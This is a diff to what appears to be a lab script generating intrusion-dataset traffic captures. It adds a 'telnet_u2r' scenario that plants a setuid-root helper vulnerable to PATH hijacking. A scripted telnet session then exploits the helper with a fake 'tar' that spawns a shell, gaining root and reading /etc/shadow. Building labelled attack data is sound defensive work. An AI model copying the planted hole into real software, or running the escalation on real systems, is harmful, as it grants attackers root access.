@@ -19,12 +19,14 @@ A=10.200.0.1
 S=10.200.0.2
 S6=fd00:200::2  # IPv6 on the same link (attacker fd00:200::1)
 PY="${PYTHON:-python3}"
+HELPER=/usr/local/sbin/kdd-backup-helper  # telnet_u2r's setuid-root victim, removed on exit
 mkdir -p "$OUT"
 
 cleanup() {
     set +e
     for pidfile in "$WORK"/*.pid; do [ -f "$pidfile" ] && kill "$(cat "$pidfile")" 2>/dev/null; done
     pkill -x nginx 2>/dev/null; pkill -x dnsmasq 2>/dev/null; pkill -x smtpd 2>/dev/null
+    rm -f "$HELPER"; rm -rf /home/alice/.k
     ip netns del $ATK 2>/dev/null
     ip netns del $SRV 2>/dev/null
     rm -rf "$WORK"
@@ -345,6 +347,19 @@ ftp_guess_proftpd() {  # hydra's defaults against ProFTPD, 3 logins a session. p
     ftp_guess_many
     kill $proftpd; wait $proftpd 2>/dev/null || true; }
 fragments() { in_atk "$PY" "$HERE/send_fragments.py" "$1" $S; }
+telnet_u2r() {  # a user logs in over telnet, compiles an exploit, gains a root shell and looks
+    # around as root. The hole, planted here: a setuid-root backup helper running `tar` through
+    # system() with the caller's PATH (the PATH/IFS class of DARPA's loadmodule and perl).
+    printf '#include <stdlib.h>\n#include <unistd.h>\nint main(void) { if (setuid(0) || setgid(0)) return 1;\n  return system("tar -czf /tmp/kdd-backup.tgz /srv/ftp/pub 2>/dev/null"); }\n' \
+        > "$WORK/helper.c"
+    gcc -o "$HELPER" "$WORK/helper.c" && chmod 4755 "$HELPER"
+    for i in 1 2; do
+        in_atk "$PY" "$HERE/telnet_session.py" $S alice wonderland-7 "id" "mkdir -p ~/.k" "cd ~/.k" \
+            "printf '#!/bin/sh\\nexec /bin/sh -i 2>&1\\n' > tar" "chmod +x tar" \
+            "printf '#include <stdlib.h>\\n#include <unistd.h>\\nint main(void) { setenv(\"PATH\", \"/home/alice/.k:/usr/bin:/bin\", 1); execl(\"$HELPER\", \"h\", (char *)0); return 1; }\\n' > x.c" \
+            "gcc -o x x.c" "./x" "id" "wc -l /etc/shadow" "ls -ld /root" "exit" "cd; rm -rf ~/.k"
+        sleep 1; done
+    rm -f "$HELPER"; }
 
 setup_network
 setup_accounts
@@ -408,4 +423,5 @@ capture fping_sweep fping_sweep
 capture normal_snmp normal_snmp
 capture ftp_guess_proftpd ftp_guess_proftpd
 capture scan_frag nmap_scan -sS -f -p 1-300
+capture telnet_u2r telnet_u2r
 capture scan_decoy nmap_scan -sS -D 10.200.0.77,10.200.0.78,ME -p 1-300
